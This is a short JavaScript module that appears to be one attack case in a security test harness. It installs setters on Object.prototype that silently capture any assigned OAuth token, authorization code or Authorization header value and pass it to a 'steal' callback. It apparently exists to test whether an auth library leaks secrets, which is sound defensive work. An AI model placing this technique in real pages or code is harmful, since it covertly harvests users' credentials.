import { attack } from "../attack.js";

export default attack({
  name: "defines setters on Object.prototype",
  threat: "persistent theft",
  target: "any",
  hook(it) {
    for (const name of [
      "access_token",
      "accessToken",
      "refresh_token",
      "refreshToken",
      "id_token",
      "idToken",
      "token",
      "code",
      "code_verifier",
      "Authorization",
      "authorization",
    ]) {
      Object.defineProperty(Object.prototype, name, {
        configurable: true,
        get: () => undefined,
        set(value: unknown) {
          it.steal(value);
          Object.defineProperty(this, name, { value, configurable: true, enumerable: true, writable: true });
        },
      });
    }
  },
});
